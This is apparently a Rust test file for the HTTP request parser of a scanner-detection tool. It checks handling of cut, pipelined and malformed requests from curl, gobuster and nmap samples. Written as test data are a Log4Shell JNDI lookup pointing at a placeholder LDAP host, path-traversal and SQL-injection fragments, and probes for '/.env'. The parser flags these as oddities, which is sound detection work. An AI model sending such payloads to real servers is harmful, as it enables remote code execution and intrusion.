use proptest::prelude::*;
use scanguard_common::content::Begins;

use super::*;

/// Requests of real tools.
const CURL: &[u8] = include_bytes!("../../../../fuzz/corpus/http/curl");
const CURL_POST: &[u8] = include_bytes!("../../../../fuzz/corpus/http/curl_post");
const CURL_HTTP2: &[u8] = include_bytes!("../../../../fuzz/corpus/http/curl_http2");
const CURL_HTTP10: &[u8] = include_bytes!("../../../../fuzz/corpus/http/curl_http10");
const GOBUSTER: &[u8] = include_bytes!("../../../../fuzz/corpus/http/gobuster");
const PIPELINED: &[u8] = include_bytes!("../../../../fuzz/corpus/http/pipelined");
const NMAP_JDWP: &[u8] = include_bytes!("../../../../fuzz/corpus/http/nmap_jdwp");

fn requests(bytes: &[u8]) -> Vec<Said> {
    super::requests(bytes, whole(bytes)).0
}

/// The payload ends where the sample ends.
fn whole(bytes: &[u8]) -> Place {
    let len = u32::try_from(bytes.len()).expect("a segment");
    Place { position: 0, len, ends_head: bytes.ends_with(b"\r\n\r\n") }
}

fn only(bytes: &[u8]) -> Request {
    match requests(bytes).as_slice() {
        [Said::Request(request)] => request.clone(),
        other => panic!("{other:?}"),
    }
}

fn junk(bytes: &[u8]) -> Junk {
    match requests(bytes).as_slice() {
        [Said::Junk(junk)] => *junk,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_request_of_curl_is_read_without_its_query_and_cookie() {
    let request = only(CURL);
    assert_eq!((request.method.as_str(), request.path.as_str()), ("GET", "/a/b"));
    assert_eq!(request.host.as_deref(), Some("127.0.0.1"));
    assert_eq!(request.agent.as_deref(), Some("curl/7.88.1"));
    assert_eq!(request.referer.as_deref(), Some("ref.example"));
    assert_eq!(request.oddities, []);
    let everything = format!("{request:?}");
    assert!(!everything.contains("secret") && !everything.contains("session"), "{everything}");
}

#[test]
fn a_request_that_is_cut_anywhere_is_told_with_what_was_seen() {
    let line = GOBUSTER.iter().position(|byte| *byte == b'\n').expect("a line") + 1;
    for length in 1..GOBUSTER.len() {
        let cut = &GOBUSTER[..length];
        if length <= b"GET ".len() {
            assert_eq!(junk(cut), Junk::Cut, "{length}");
        } else if length < b"GET /admin ".len() {
            let request = only(cut);
            assert!(request.is_cut && "/admin".starts_with(&request.path), "{request:?}");
        } else if length >= line {
            let request = only(cut);
            assert_eq!(request.path, "/admin");
            assert_eq!(
                request.agent.is_some(),
                length > line + b"Host: 127.0.0.1:8080\r\nUser-Agent: gobuster/3.5\r\n".len() - 1
            );
            assert_eq!(request.oddities, [], "whether there is a Host cannot be told");
        }
    }
}

#[test]
fn a_path_that_is_cut_is_whole_once_its_query_has_begun() {
    assert!(only(b"GET /a").is_cut && !only(b"GET /a?id=1").is_cut);
    assert_eq!(only(b"GET /a?id=1%20UNION%20SEL").path, "/a");
    assert_eq!(junk(b"GET"), Junk::Cut);
}

#[test]
fn a_line_that_is_longer_than_what_is_taken_is_told_by_its_beginning() {
    let taken = |begin: &str| {
        let line = format!("{begin}{}word HTTP/1.1\r\nHost: x\r\n\r\n", "./".repeat(260));
        line.into_bytes()[..Begins::Request.limit()].to_vec()
    };
    let request = only(&taken("GET /"));
    assert!(request.is_cut && request.path.starts_with("/./././"), "{request:?}");
    assert!(only(&taken("GET  /")).is_cut, "two blanks");
    assert_eq!(only(&taken("FOO /..%2f..%2f")).oddities, [Oddity::Method, Oddity::Traversal]);
    let request = only(&taken("GET /item?id="));
    assert!(!request.is_cut && request.path == "/item", "{request:?}");
    // A later request is cut by chance.
    let pipelined = [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n".as_slice(), &taken("GET /")].concat();
    assert_eq!(requests(&pipelined[..512]).len(), 1);
    assert!(!only(b"GET / HTTP/1.1\r\n").is_cut);
}

#[test]
fn the_next_request_begins_behind_the_declared_body() {
    let at = |next: usize| End::At { next: next as u64, is_doubtful: false };
    let end = |bytes: &str| super::requests(bytes.as_bytes(), whole(bytes.as_bytes())).1;
    let head = "POST / HTTP/1.1\r\nHost: x\r\n";
    for (headers, expected) in [
        ("\r\n", at(head.len() + 2)),
        ("Content-Length: 3\r\n\r\nabc", at(head.len() + 24)),
        ("Content-Length: 3\r\n\r\nab", at(head.len() + 24)),
        ("Content-Length: 9000\r\n\r\nab", at(head.len() + 9_024)),
        ("Content-Length: 3\r\n\r\nabcGET / HTTP/1.0\r\n\r\n", at(head.len() + 42)),
        ("Content-Length: 18446744073709551615\r\n\r\n", at(usize::MAX)),
        ("Content-Length: -1\r\n\r\n", End::Open),
        ("Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n", End::Open),
        ("Cookie: and then it was cut", End::Open),
    ] {
        assert_eq!(end(&format!("{head}{headers}")), expected, "{headers:?}");
    }
    let doubtful = End::At { next: 46, is_doubtful: true };
    for (bytes, expected) in [
        ("GET / HTTP/1.1\r\nHost: x\r\nCookie: and then it was cut", End::Head),
        ("GET / HTTP/1.0\r\n\r\nGET /a", End::Unseen),
        ("GET / HTTP/1.0\r\n\r\nPOST /a", End::Open),
        ("GET / HTTP/1.1\r\nContent-Length: 9\r\n\r\n", doubtful),
        ("CONNECT x:443 HTTP/1.1\r\nHost: x\r\n\r\n", End::Connect),
        ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", End::Open),
        ("GET / FTP/1.0\r\n\r\n", End::Open),
        ("GET /a", End::Head),
        ("QUIT\r\n", End::Open),
        ("\r\n\n", at(3)),
    ] {
        assert_eq!(end(bytes), expected, "{bytes:?}");
    }
}

#[test]
fn the_end_of_a_payload_tells_where_a_long_head_ends() {
    let sampled = format!("GET / HTTP/1.1\r\nHost: x\r\nCookie: {}", "c".repeat(480));
    let end = |len, ends_head| super::requests(sampled.as_bytes(), Place { position: 7, len, ends_head }).1;
    assert_eq!(end(1_448, true), End::At { next: 1_448, is_doubtful: false });
    assert_eq!(end(1_448, false), End::Head);
    let long = sampled.replace("GET", "POST");
    let place = Place { position: 0, len: 1_448, ends_head: true };
    assert_eq!(super::requests(long.as_bytes(), place).1, End::Open, "its body begins then");
}

#[test]
fn http11_without_a_host_is_odd_if_the_headers_ended() {
    assert_eq!(only(b"GET / HTTP/1.1\r\nAccept: */*\r\n\r\n").oddities, [Oddity::NoHost]);
    assert_eq!(only(b"GET / HTTP/1.1\r\nAccept: */*\r\n").oddities, []);
    assert_eq!(only(b"GET / HTTP/1.0\r\n\r\n").oddities, []);
    assert_eq!(only(CURL_HTTP10).oddities, []);
    assert_eq!(only(b"GET / HTTP/1.1\nhost: x\n\n").oddities, []);
}

#[test]
fn pipelined_requests_are_all_told() {
    let agents: Vec<_> = requests(PIPELINED)
        .into_iter()
        .map(|said| match said {
            Said::Request(Request { agent, .. }) => agent.unwrap_or_default(),
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(agents, ["gobuster/3.5", "Fuzz Faster U Fool v1.1.0"]);
    // Behind a body of known length, and behind an extra blank line.
    assert_eq!(requests(&[CURL_POST, b"\r\n", GOBUSTER].concat()).len(), 2);
    // The last one may be cut.
    assert_eq!(requests(&[GOBUSTER, b"GET /x"].concat()).len(), 1);
    assert_eq!(requests(&[GOBUSTER, b"\0\0\0"].concat()).last(), Some(&Said::Junk(Junk::Syntax)));
    assert_eq!(requests(&b"GET / HTTP/1.0\r\n\r\n".repeat(99)).len(), MAX_REQUESTS);
}

#[test]
fn nothing_is_read_after_a_body_whose_end_is_not_known() {
    for header in ["Transfer-Encoding: chunked", "Content-Length: x", "Content-Length: 18446744073709551615"]
    {
        let bytes =
            format!("POST / HTTP/1.1\r\nHost: x\r\n{header}\r\n\r\nGET /no HTTP/1.1\r\nHost: x\r\n\r\n");
        assert_eq!(only(bytes.as_bytes()).method, "POST", "{header}");
    }
}

#[test]
fn a_line_that_breaks_the_syntax_is_told_as_far_as_it_can_be_read() {
    for line in ["GET /a b", "GET /a b HTTP/1.1", "GET /a b HTTP/7.9", "GET /a b\x01 HTTP/1.1"] {
        let request = only(format!("{line}\r\nHost: x\r\nUser-Agent: y\r\n").as_bytes());
        assert!(request.path.starts_with("/a"), "{request:?}");
        assert_eq!((request.host.as_deref(), request.agent.as_deref()), (Some("x"), Some("y")), "{line}");
    }
}

#[test]
fn what_servers_skip_before_and_within_a_line_is_skipped() {
    let line = "/.env HTTP/1.1\r\nHost: x\r\nUser-Agent: y\r\n\r\n";
    for begin in ["\r\nGET ", "\n\r\n\nGET ", "GET  ", "\r\nGET    "] {
        let request = only(format!("{begin}{line}").as_bytes());
        assert_eq!((request.method.as_str(), request.path.as_str()), ("GET", "/.env"), "{begin:?}");
        assert_eq!((request.host.as_deref(), request.agent.as_deref()), (Some("x"), Some("y")), "{begin:?}");
    }
}

#[test]
fn what_is_no_request_is_junk() {
    assert_eq!(junk(NMAP_JDWP), Junk::Syntax);
    assert_eq!(junk(b"GET\r\n\r\n"), Junk::Syntax);
    assert_eq!(junk(b"G\xffT / HTTP/1.1\r\n\r\n"), Junk::Syntax);
    assert_eq!(junk(b"QUIT\r\n"), Junk::Syntax);
}

#[test]
fn the_preface_of_http2_says_nothing() {
    assert_eq!(requests(CURL_HTTP2), []);
}

#[test]
fn values_are_bounded_and_need_not_be_text() {
    let long = [b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: \xff", &[b'a'; 1 << 20][..], b"\r\n\r\n"].concat();
    let agent = only(&long).agent.expect("an agent");
    assert!(agent.len() <= MAX_VALUE + 3 && agent.starts_with('\u{fffd}'), "{}", agent.len());
    let many = [b"GET / HTTP/1.1\r\nHost: x\r\n", &b"a: b\r\n".repeat(999)[..], b"\r\n"].concat();
    assert_eq!(only(&many).host.as_deref(), Some("x"));
}

#[test]
fn a_header_that_is_wrong_does_not_hide_the_others() {
    let request = only(b"GET / HTTP/1.1\r\nHost: x\r\nBad Header: 1\r\nUser-Agent: y\r\n\r\n");
    assert_eq!(request.agent.as_deref(), Some("y"));
}

#[test]
fn status_lines_give_their_code_also_when_cut() {
    for (bytes, expected) in [
        (&b"HTTP/1.1 404 Not Found\r\nServer: nginx\r\n\r\n"[..], Some(404)),
        (b"HTTP/1.0 200 OK", Some(200)),
        (b"HTTP/1.1 403", Some(403)),
        (b"HTTP/1.1 301\r\n", Some(301)),
        (b"HTTP/1.1 101 Switching", Some(101)),
        (b"HTTP/1.1 100 Continue\r\n\r\n", None),
        (b"HTTP/1.1 40", None),
        (b"HTTP/1.1 abc", None),
    ] {
        assert_eq!(status(bytes), expected.map(Said::Status), "{}", bytes.escape_ascii());
    }
}

proptest! {
    #[test]
    fn any_bytes_are_safe(bytes in prop::collection::vec(any::<u8>(), 0..600)) {
        prop_assert!(requests(&bytes).len() <= MAX_REQUESTS);
        status(&bytes);
    }

    #[test]
    fn any_change_of_a_request_is_safe_and_what_comes_out_is_no_longer_than_what_went_in(
        changes in prop::collection::vec((0usize..400, any::<u8>()), 1..6)
    ) {
        let mut bytes = PIPELINED.to_vec();
        for (at, byte) in changes {
            let at = at % bytes.len();
            bytes[at] = byte;
        }
        for said in requests(&bytes) {
            if let Said::Request(Request { method, path, host, agent, referer, .. }) = said {
                let parts = [Some(method), Some(path), host, agent, referer];
                let length: usize = parts.iter().flatten().map(String::len).sum();
                // A byte that is not UTF-8 becomes three bytes.
                prop_assert!(length <= 3 * bytes.len());
            }
        }
    }
}

#[test]
fn a_look_up_is_found_in_any_header() {
    for header in ["X-Api-Version", "Cookie", "Authorization", "X-Forwarded-For", "User-Agent", "Accept"] {
        let bytes = format!(
            "GET / HTTP/1.1\r\nHost: a.example\r\n{header}: ${{${{lower:j}}ndi:ldap://b.example/a}}\r\n\r\n"
        );
        let request = only(bytes.as_bytes());
        assert_eq!(request.oddities, [Oddity::Jndi], "{header}");
    }
    let bytes = b"GET / HTTP/1.1\r\nHost: a.example\r\nX-Template: ${name} costs ${price}\r\n\r\n";
    assert_eq!(only(bytes).oddities, []);
}
